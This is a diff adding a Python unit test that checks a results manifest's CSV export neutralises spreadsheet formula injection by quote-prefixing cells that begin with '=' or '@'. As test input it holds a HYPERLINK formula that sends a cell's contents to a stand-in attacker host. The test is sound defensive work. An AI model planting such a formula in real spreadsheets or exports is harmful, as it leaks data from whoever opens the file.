@@ -94,3 +94,22 @@ def test_a_changed_input_line_replaces_its_old_row(tmp_path):
     second.close()
     rows = sorted((r["line"], r["url"]) for r in read_rows(tmp_path / "results.jsonl"))
     assert rows == [(1, "http://new/"), (2, "http://same/")]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
+    import csv
+
+    manifest = Manifest(tmp_path)
+    manifest.open()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    manifest.write(error_result(1, hostile, "not a URL"))
+    manifest.write(error_result(2, "@SUM(1+1)", "not a URL"))
+    manifest.write(ok_row(3, "http://a/"))
+    manifest.close()
+    manifest.write_csv()
+    with (tmp_path / "results.csv").open(newline="", encoding="utf-8") as handle:
+        cells = {int(row["line"]): row for row in csv.DictReader(handle)}
+    assert cells[1]["url"] == "'" + hostile and cells[2]["url"] == "'@SUM(1+1)"
+    assert cells[3]["url"] == "http://a/" and cells[3]["status"] == "ok"
+    # The JSON Lines manifest keeps what the user wrote, untouched.
+    assert [r["url"] for r in read_rows(tmp_path / "results.jsonl")][:2] == [hostile, "@SUM(1+1)"]
